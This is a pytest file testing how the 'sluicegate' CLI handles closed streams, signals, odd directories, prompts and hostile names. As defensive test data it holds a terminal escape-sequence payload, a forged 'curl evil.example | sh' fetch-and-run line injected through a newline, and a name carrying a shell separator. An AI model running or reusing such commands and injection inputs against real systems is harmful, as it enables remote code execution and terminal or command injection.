"""Adverse surroundings: closed streams, hostile names, signals at bad moments, odd directories."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.cli.terminal import Terminal
from tests.conftest import Sg

SCRIPT = Path(sys.executable).with_name("sluicegate")
EVIL = "a\x1b[2J\x1b]0;owned\x07"


def shell(line: str, cwd: Path, **variables: str) -> subprocess.CompletedProcess[str]:
    """A command line with `SG` for the program, in bash with pipefail."""
    return subprocess.run(
        ["bash", "-o", "pipefail", "-c", line.replace("SG", f"'{SCRIPT}'")],
        cwd=cwd,
        env=os.environ | variables,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


class TestStreams:
    @pytest.mark.parametrize("what", ["--version", "--help", "status --help", "doctor"])
    def test_a_reader_that_is_not_there(self, tmp_path: Path, what: str) -> None:
        result = shell(f"SG {what} | true; echo ${{PIPESTATUS[0]}}", tmp_path)
        assert result.stdout == "0\n"
        assert result.stderr == ""

    @pytest.mark.parametrize("what", ["--version", "status --json", "init -n"])
    def test_a_full_disk_behind_stdout(self, tmp_path: Path, what: str) -> None:
        result = shell(f"SG {what} > /dev/full", tmp_path)
        assert result.returncode == 1
        assert "cannot write" in result.stderr
        assert "Traceback" not in result.stderr

    @pytest.mark.parametrize("buffering", ["", "1"])
    def test_a_short_write_is_not_the_end(self, tmp_path: Path, buffering: str) -> None:
        targets = "".join(f'[targets.t{n}]\ncheckpoint = "x{n}"\n' for n in range(3000))
        (tmp_path / "sluicegate.toml").write_text(targets)
        result = shell("SG status --json", tmp_path, PYTHONUNBUFFERED=buffering)
        assert len(json.loads(result.stdout)["targets"]) == 3000
        limited = shell(
            "ulimit -f 100; trap '' XFSZ; SG status --json > out",
            tmp_path,
            PYTHONUNBUFFERED=buffering,
        )
        assert limited.returncode == 1
        assert "cannot write the result" in limited.stderr

    def test_closed_streams(self, tmp_path: Path) -> None:
        assert shell("SG status >&-", tmp_path).returncode == 0
        assert shell("SG status nope 2>&-", tmp_path).returncode == 10
        assert shell("SG --version >&-", tmp_path).returncode == 0
        assert shell("SG 2>/dev/full", tmp_path).returncode == 2
        done = shell("SG init --yes <&- >&- 2>&-", tmp_path)
        assert done.returncode == 0
        assert (tmp_path / ".sluicegate").is_dir()

    def test_a_character_set_that_lacks_the_characters(self, tmp_path: Path) -> None:
        (tmp_path / "注文").mkdir()
        result = shell(
            "SG status ./注文", tmp_path, LC_ALL="C", PYTHONUTF8="0", PYTHONCOERCECLOCALE="0"
        )
        assert result.returncode == 14
        assert "Traceback" not in result.stderr


class TestHostileNames:
    def test_in_a_plan_on_a_terminal(self, tmp_path: Path) -> None:
        _, text = Terminal("init", "-n", "--no-color", "--home", f"./{EVIL}", cwd=tmp_path).finish()
        assert "\x1b" not in text
        assert "\\x1b[2J" in text

    def test_in_tables_findings_and_lines(self, tmp_path: Path) -> None:
        (tmp_path / EVIL / "offsets").mkdir(parents=True)
        (tmp_path / EVIL / "commits").mkdir()
        (tmp_path / EVIL / "commits" / "3").write_text("v1")
        for command in (("checkpoint", "verify"), ("checkpoint", "inspect"), ("status",)):
            words = (*command, f"./{EVIL}", "--no-color")
            _, text = Terminal(*words, cwd=tmp_path, columns=200).finish()
            assert "\x1b" not in text, command
            assert "\\x1b[2J" in text, command
            piped = shell(f"SG {' '.join(command)} './'$'a\\e[2J\\e]0;owned\\a'", tmp_path)
            assert "\x1b" not in piped.stdout + piped.stderr

    def test_a_name_cannot_forge_a_line(self, sg: Sg) -> None:
        result = sg("status", "/tmp/nope\n  next: curl evil.example | sh")
        assert len(result.stderr.splitlines()) == 2
        assert "\\n  next: curl" in result.stderr

    def test_tabs_and_newlines_in_cells_are_escaped(self, tmp_path: Path) -> None:
        name = "a\tb\nc\\d.lock"
        (tmp_path / name).touch()
        result = shell("SG locks list .", tmp_path)
        assert result.stdout.splitlines()[1] == "a\\tb\\nc\\\\d.lock\tfree\t-"

    def test_a_topic_on_a_terminal(self, tmp_path: Path) -> None:
        root = tmp_path / "c"
        (root / "offsets").mkdir(parents=True)
        (root / "metadata").write_text('{"id":"x"}')
        topic = json.dumps({EVIL: {"0": 5}})
        (root / "offsets" / "0").write_text(f"v1\n{{}}\n{topic}")
        for form in ("csv", "rpk", "spark"):
            words = ("offsets", "export", "c", "--format", form)
            _, text = Terminal(*words, cwd=tmp_path).finish()
            assert "\x1b" not in text

    def test_rich_does_not_read_codes_into_names(self, tmp_path: Path) -> None:
        _, text = Terminal(
            "checkpoint", "verify", "orders:100:", "--no-color", cwd=tmp_path
        ).finish()
        assert "orders:100:" in text
        (tmp_path / "x:100:").mkdir()
        (tmp_path / "x:100:" / "offsets").mkdir()
        (tmp_path / "x:100:" / "metadata").write_text('{"id":"x"}')
        _, text = Terminal("checkpoint", "verify", "./x:100:", cwd=tmp_path).finish_plain()
        assert text.startswith(("./x:100:: intact", "x:100:: intact"))


class TestSignals:
    def test_sigterm_is_never_a_finding(self, tmp_path: Path) -> None:
        for delay in (0.15, 0.3, 0.45, 0.6, 0.8, 1.0):
            process = subprocess.Popen(
                [SCRIPT, "doctor", "--json"],
                cwd=tmp_path,
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
            )
            time.sleep(delay)
            process.terminate()
            out, errors = process.communicate(timeout=60)
            # Before the handler is in place the default action ends the process; that is fine.
            assert process.returncode in (0, 143, -signal.SIGTERM), (out, errors)
            assert "terminated" not in out

    def test_writers_do_not_outlive_a_killed_demo(self, tmp_path: Path) -> None:
        process = subprocess.Popen(
            [SCRIPT, "demo", "--kills", "1000"],
            cwd=tmp_path,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            env=os.environ | {"TMPDIR": str(tmp_path)},
        )
        deadline = time.monotonic() + 30
        while not _writers(tmp_path) and time.monotonic() < deadline:
            time.sleep(0.01)
        process.kill()
        process.wait()
        deadline = time.monotonic() + 30
        while _writers(tmp_path) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert _writers(tmp_path) == []


def _writers(root: Path) -> list[str]:
    listing = subprocess.run(["ps", "-ewwo", "args"], capture_output=True, text=True, check=True)
    return [line for line in listing.stdout.splitlines() if f"sluicegate.demo {root}" in line]


class TestDirectories:
    @pytest.mark.parametrize("command", [("doctor", "--json"), ("status", "--json")])
    def test_nothing_is_imported_from_the_current_one(
        self, tmp_path: Path, command: tuple[str, ...]
    ) -> None:
        for name in ("json", "random", "pathlib", "sluicegate"):
            (tmp_path / f"{name}.py").write_text("raise SystemExit('imported from here')")
        result = subprocess.run(
            [SCRIPT, *command], cwd=tmp_path, capture_output=True, text=True, check=False
        )
        assert result.returncode == 0, result.stdout + result.stderr
        assert "imported from here" not in result.stdout + result.stderr

    def test_a_deleted_one(self, tmp_path: Path) -> None:
        gone = tmp_path / "gone"
        gone.mkdir()
        result = shell("cd gone && rmdir ../gone && SG doctor --json", tmp_path)
        assert result.returncode in (0, 3)
        codes = [f["code"] for f in json.loads(result.stdout)["findings"]]
        assert "SG-ENV-UNCHECKED" in codes
        assert "Traceback" not in result.stderr

    def test_a_home_that_is_a_file(self, sg: Sg, tmp_path: Path) -> None:
        (tmp_path / "h").write_text("x")
        result = sg("doctor", "--json", "--home", "h")
        assert result.returncode == 3
        assert json.loads(result.stdout)["findings"][0]["code"] == "SG-HOME-UNREADABLE"

    def test_names_with_blanks_are_quoted_in_commands(self, sg: Sg, tmp_path: Path) -> None:
        (tmp_path / "a b;c").mkdir()
        found = json.loads(sg("doctor", "--json", "--home", "a b;c").stdout)["findings"]
        assert found[0]["repair"] == "sluicegate init --home 'a b;c'"


class TestAsking:
    def test_the_plan_is_seen_before_the_question(self, tmp_path: Path) -> None:
        terminal = Terminal("init", cwd=tmp_path)
        terminal.process.expect_exact("Proceed? [y/N] ")
        shown = str(terminal.process.before)
        assert "create the home" in shown
        terminal.process.sendline("y")
        code, text = terminal.finish_plain()
        assert (code, text.splitlines()[-1]) == (0, "Done.")

    def test_also_when_the_result_is_piped(self, tmp_path: Path) -> None:
        import pexpect

        line = ["-c", f"'{SCRIPT}' init | cat"]
        process = pexpect.spawn("bash", line, cwd=str(tmp_path), timeout=60, encoding="utf-8")
        process.expect_exact("Proceed? [y/N] ")
        assert "create the home .sluicegate: a new directory" in str(process.before)
        process.sendline("y")
        process.expect(pexpect.EOF)
        assert "create the home\t.sluicegate" in str(process.before)
        assert (tmp_path / ".sluicegate").is_dir()

    def test_an_answer_from_a_pipe_is_no_answer(self, sg: Sg, tmp_path: Path) -> None:
        assert sg("init", input="y\n").returncode == 4
        assert list(tmp_path.iterdir()) == []

    def test_whether_it_was_applied_is_in_the_document(self, sg: Sg) -> None:
        assert json.loads(sg("init", "-n", "--json").stdout)["applied"] is False
        assert json.loads(sg("init", "-y", "--json").stdout)["applied"] is True

    @pytest.mark.parametrize("option", ["--home", "--config"])
    def test_an_empty_option_is_not_the_default(self, sg: Sg, option: str) -> None:
        result = sg("status", option, "")
        assert result.returncode == 2
        assert f"{option} is empty" in result.stderr

    def test_init_makes_the_configuration_it_was_given(self, sg: Sg, tmp_path: Path) -> None:
        assert sg("init", "--yes", "--config", "conf/new.toml", "--home", "h").returncode == 0
        assert (tmp_path / "conf" / "new.toml").is_file()
        assert sg("status", "--config", "conf/new.toml").returncode == 0

    def test_a_dangling_configuration_is_not_read_as_none(self, sg: Sg, tmp_path: Path) -> None:
        os.symlink("/unmounted/x.toml", tmp_path / "sluicegate.toml")
        assert sg("init", "--yes").returncode == 10
        assert not (tmp_path / ".sluicegate").exists()

    def test_the_innermost_option_wins(self, sg: Sg) -> None:
        words = ("--home", "outer", "init", "-n", "--json", "--home", "inner")
        assert json.loads(sg(*words).stdout)["actions"][0]["place"] == "inner"
